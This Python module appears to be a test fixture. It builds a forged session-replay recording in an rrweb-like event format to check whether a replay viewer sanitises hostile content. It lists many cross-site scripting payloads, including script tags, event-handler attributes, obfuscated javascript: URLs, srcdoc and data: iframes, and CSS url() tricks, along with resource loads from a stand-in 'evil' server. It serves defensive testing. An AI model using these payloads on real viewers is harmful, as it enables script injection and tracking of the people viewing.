"""A forged recording: what a hostile visitor could send to run or fetch something on the viewer's side."""

from __future__ import annotations

from typing import Any

Node = dict[str, Any]
Events = list[Node]

RUN = "(window.top || window).pwned = (window.pwned = true)"


def mutation(**changes: list[Node]) -> Node:
    return {"source": 0, "adds": [], "removes": [], "texts": [], "attributes": [], **changes}


class Forger:
    """Builds forged nodes with ids of their own. `evil`: a server elsewhere; every address on it is different."""

    def __init__(self, evil: str) -> None:
        self.evil = evil
        self.ids = 10
        self.leaks = 0
        self.html, self.body = 8, 9  # ids that `document` gives

    def url(self, what: str) -> str:
        self.leaks += 1
        return f"{self.evil}/{what}-{self.leaks}"

    def node(self, tag: str, attributes: Node | None = None, *children: Node, **more: Any) -> Node:
        self.ids += 1
        return {
            "type": 2,
            "id": self.ids,
            "tagName": tag,
            "attributes": attributes or {},
            "childNodes": list(children),
            **more,
        }

    def text(self, content: str, **more: Any) -> Node:
        self.ids += 1
        return {"type": 3, "id": self.ids, "textContent": content, **more}

    def css(self) -> str:
        return (
            f"@import url({self.url('import')}); @import '{self.url('import-text')}';"
            f"@font-face {{ font-family: x; src: url({self.url('font')}) }}"
            f"body {{ font-family: x; background: url('{self.url('background')}') }}"
            f"p {{ background-image: image-set('{self.url('image-set')}' 1x) }}"
            f'p {{ cursor: url("{self.url("cursor")}"), auto }}'
            f"li {{ list-style: u\\72l({self.url('escaped')}) }}"
        )

    def runs(self) -> list[Node]:
        """Nodes that would run a script."""
        n, t = self.node, self.text
        svg: Node = {"isSVG": True}
        return [
            n("script", {}, t(RUN)),
            n("SCRIPT", {"src": self.url("script")}),
            n("script", {"type": "module"}, t(f"import '{self.url('module')}'; {RUN}")),
            n("img", {"src": "x:", "onerror": RUN, "ONERROR": RUN}),
            n("body", {"onload": RUN, "onpageshow": RUN}),
            n(
                "svg",
                {"onload": RUN},
                n("script", {}, t(RUN), **svg),
                n("animate", {"onbegin": RUN, "dur": "1s"}, **svg),
                **svg,
            ),
            n("a", {"href": "javascript:" + RUN, "id": "js-link"}, t("a link")),
            n("a", {"href": " java\tscript:" + RUN, "class": "js-link"}, t("a link")),
            n("iframe", {"srcdoc": f"<script>{RUN}</script><img src={self.url('srcdoc')} onerror='{RUN}'>"}),
            n("iframe", {"src": "javascript:" + RUN}),
            n("iframe", {"src": "data:text/html,<script>top.pwned=1</script>"}),
            n("details", {"open": True, "ontoggle": RUN}, t("details")),
            n("input", {"autofocus": True, "onfocus": RUN}),
            n("video", {"onerror": RUN, "src": "x:"}, n("source", {"src": self.url("source"), "onerror": RUN})),
            n(
                "form",
                {"action": "javascript:" + RUN, "id": "js-form"},
                n("button", {"formaction": "javascript:" + RUN}),
            ),
            n("object", {"data": "data:text/html,<script>top.pwned=1</script>"}),
            n("math", {"xlink:href": "javascript:" + RUN, "href": "javascript:" + RUN}),
            n("div", {"style": f"background: url('javascript:{RUN}')"}),
        ]

    def fetches(self) -> list[Node]:
        """Nodes that would fetch something or lead the viewer away."""
        n, t = self.node, self.text
        svg: Node = {"isSVG": True}
        return [
            n("img", {"src": self.url("img")}),
            n("img", {"srcset": f"{self.url('srcset')} 2x", "sizes": "1px"}),
            n("img", {"src": self.url("img-data"), "rr_dataURL": self.url("rr-data")}),
            n("picture", {}, n("source", {"srcset": self.url("picture")}), n("img", {})),
            n("iframe", {"src": self.url("iframe")}),
            n("frame", {"src": self.url("frame")}),
            n("object", {"data": self.url("object"), "type": "text/html"}),
            n("embed", {"src": self.url("embed")}),
            n("audio", {"src": self.url("audio"), "autoplay": True, "rr_mediaState": "played"}),
            n("video", {"src": self.url("video"), "poster": self.url("poster"), "preload": "auto"}),
            n("track", {"src": self.url("track"), "default": True}),
            n("canvas", {"rr_dataURL": self.url("canvas")}),
            n("table", {"background": self.url("table")}),
            n("input", {"type": "image", "src": self.url("input")}),
            n("svg", {}, n("image", {"href": self.url("svg"), "xlink:href": self.url("xlink")}, **svg), **svg),
            n(
                "svg",
                {},
                n("use", {"href": self.url("use") + "#x"}, **svg),
                n("rect", {"fill": f"url({self.url('fill')})"}, **svg),
                **svg,
            ),
            n("style", {}, t(self.css(), isStyle=True)),
            n("style", {"_cssText": self.css()}),
            n("link", {"rel": "stylesheet", "_cssText": self.css(), "href": self.url("css-text")}),
            n("p", {"style": f"background: url({self.url('style')})"}, t("a paragraph")),
            n(
                "form",
                {"action": self.url("form"), "id": "form", "method": "post"},
                n("input", {"name": "a", "value": "b"}),
            ),
            n("a", {"href": self.url("link"), "ping": self.url("ping"), "target": "_top", "id": "link"}, t("a link")),
        ]

    def head(self) -> list[Node]:
        n = self.node
        return [
            n("base", {"href": self.evil + "/"}),
            n("meta", {"http-equiv": "refresh", "content": f"0;url={self.url('refresh')}"}),
            n("meta", {"http-equiv": "Content-Security-Policy", "content": "default-src *"}),
            n("link", {"rel": "stylesheet", "href": self.url("stylesheet")}),
            n("link", {"rel": "preload", "as": "image", "href": self.url("preload")}),
            n("link", {"rel": "prefetch", "href": self.url("prefetch")}),
            n("link", {"rel": "icon", "href": self.url("icon")}),
            n("link", {"rel": "manifest", "href": self.url("manifest")}),
        ]

    def document(self, head: list[Node], body: list[Node]) -> Node:
        """A document with a heading and these nodes."""
        shown = self.node("body", {}, self.node("h1", {}, self.text("Forged")), *body)
        html = self.node(
            "html", {"manifest": self.url("manifest")}, self.node("head", {}, *head), shown | {"id": self.body}
        )
        doctype = {"type": 1, "id": 2, "name": "html", "publicId": "", "systemId": ""}
        return {"type": 0, "id": 1, "childNodes": [doctype, html | {"id": self.html}]}

    def page(self) -> Node:
        """A document of all of it."""
        return self.document(self.head(), [*self.runs(), *self.fetches()])

    def changes(self) -> list[Node]:
        """Incremental events that try the same a second later."""
        inner = self.node("iframe")
        image = self.node("img", {"id": "later"})
        style = self.node("style", {}, self.text("p { color: red }", isStyle=True))
        added = [*self.runs(), *self.fetches(), *self.head(), inner, image, style]
        within = self.node("html", {}, self.node("body", {}, *self.runs(), *self.fetches()))
        document = {"type": 0, "id": 5000, "childNodes": [within]}
        late_style = {"background-image": f"url({self.url('late-style')})"}
        attributes = [
            {"id": image["id"], "attributes": {"src": self.url("late-src"), "onerror": RUN}},
            {"id": image["id"], "attributes": {"srcset": self.url("late-set")}},
            {"id": self.body, "attributes": {"style": late_style, "onclick": RUN}},
            {"id": inner["id"], "attributes": {"src": self.url("late-frame"), "srcdoc": f"<script>{RUN}</script>"}},
        ]
        rule = {"rule": f"p {{ background: url({self.url('rule')}) }}", "index": 0}
        adopted = {"styleId": 1, "rules": [{"rule": f"h1 {{ background: url({self.url('adopted')}) }}", "index": 0}]}
        return [
            mutation(adds=[{"parentId": self.body, "nextId": None, "node": node} for node in added]),
            mutation(attributes=attributes),
            mutation(adds=[{"parentId": inner["id"], "nextId": None, "node": document}]) | {"isAttachIframe": True},
            mutation(texts=[{"id": style["childNodes"][0]["id"], "value": self.css()}]),
            {"source": 8, "id": style["id"], "adds": [rule]},
            {"source": 15, "id": 1, "styleIds": [1], "styles": [adopted]},
            {"source": 10, "family": "evil", "fontSource": f"url({self.url('font-face')})", "buffer": False},
            {"source": 2, "type": 2, "id": self.body, "x": 5, "y": 5},
        ]

    def events(self) -> list[Node]:
        """The recording: two pages, each with changes."""
        events: list[Node] = []
        for start in (1_700_000_000_000, 1_700_000_002_000):
            meta = {"href": "javascript:" + RUN, "width": 800, "height": 600}
            picture = {"node": self.page(), "initialOffset": {"left": 0, "top": 0}}
            events.append({"type": 4, "timestamp": start, "data": meta})
            events.append({"type": 2, "timestamp": start + 1, "data": picture})
            for index, data in enumerate(self.changes()):
                events.append({"type": 3, "timestamp": start + 500 + 20 * index, "data": data})
        return events
